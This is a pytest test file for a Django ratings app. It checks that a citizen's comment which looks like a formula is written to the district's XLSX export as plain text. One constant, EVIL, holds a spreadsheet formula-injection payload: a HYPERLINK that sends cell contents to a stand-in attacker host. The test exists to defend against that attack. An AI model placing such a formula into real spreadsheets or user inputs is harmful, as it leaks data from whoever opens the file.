"""A citizen's comment is data in the district's ratings export, never a live formula (issue 17 item 2)."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sheyin.accounts.roles import Role
from sheyin.accounts.tests.factories import user_with_role
from sheyin.ratings.models import Rating

from .factories import completed_case, good, outlet, rate

pytestmark = [pytest.mark.django_db, pytest.mark.urls("sheyin.ratings.tests.urls")]

EVIL = '=HYPERLINK("http://evil.example/steal?d="&B2&C2,"查看详情")'


def test_it_exports_a_formula_like_comment_as_text(client, reference) -> None:
    o = outlet()
    rating = rate(completed_case(o), good(5))
    Rating.objects.filter(pk=rating.pk).update(comment=EVIL)
    client.force_login(user_with_role(Role.DISTRICT_ADMIN, agency=o.district))
    resp = client.get(reverse("ratings:list"), {"export": "xlsx"})
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.content)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)
